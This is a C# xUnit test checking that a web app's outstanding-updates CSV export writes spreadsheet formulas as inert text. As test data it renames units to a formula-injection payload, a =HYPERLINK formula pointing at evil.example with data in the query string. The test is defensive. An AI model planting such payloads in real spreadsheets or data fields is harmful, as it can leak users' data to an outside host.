using Microsoft.EntityFrameworkCore;

namespace Scrutineer.Web.Tests;

/// <summary>
/// The outstanding-updates download (<c>/rounds/{id}/outstanding.csv</c>) neutralises spreadsheet formulas: a unit named
/// <c>=HYPERLINK(…)</c> is written as <c>'=HYPERLINK(…)</c>, so a spreadsheet shows it as text. Its own demo site, since
/// it renames units.
/// </summary>
public sealed class OutstandingCsvTests(DemoSite site) : IClassFixture<DemoSite>
{
    [Fact]
    public async Task Outstanding_UnitNamedAsFormula_WrittenAsText()
    {
        await using (var db = site.Db())
        {
            foreach (var unit in await db.Units.ToListAsync())
            {
                unit.Rename($"=HYPERLINK(\"http://evil.example/?{unit.ShortName}\",\"{unit.ShortName}\")", unit.ShortName);
            }

            await db.SaveChangesAsync();
        }

        var round = await site.OpenRoundIdAsync();
        var analyst = await site.SignInAsync("analyst");

        var text = (await analyst.GetStringAsync($"/rounds/{round}/outstanding.csv")).TrimStart('\uFEFF');
        var lines = text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.True(lines.Length > 10, $"Expected the demo's outstanding updates; got {lines.Length - 1} rows.");
        Assert.All(lines.Skip(1), l => Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?", l, StringComparison.Ordinal));
        Assert.DoesNotContain(lines, l => l.Contains(",=", StringComparison.Ordinal) || l.Contains(",\"=", StringComparison.Ordinal));
    }
}
